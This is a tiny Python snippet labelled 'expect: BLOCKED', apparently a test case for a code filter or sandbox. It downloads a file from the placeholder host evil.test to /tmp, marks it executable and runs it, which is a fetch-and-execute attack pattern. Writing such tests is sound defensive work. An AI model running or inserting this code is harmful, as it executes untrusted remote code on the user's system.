# expect: BLOCKED
import urllib.request, os, subprocess
urllib.request.urlretrieve("http://evil.test/x", "/tmp/x")
os.chmod("/tmp/x", 0o755)
subprocess.run(["/tmp/x"])
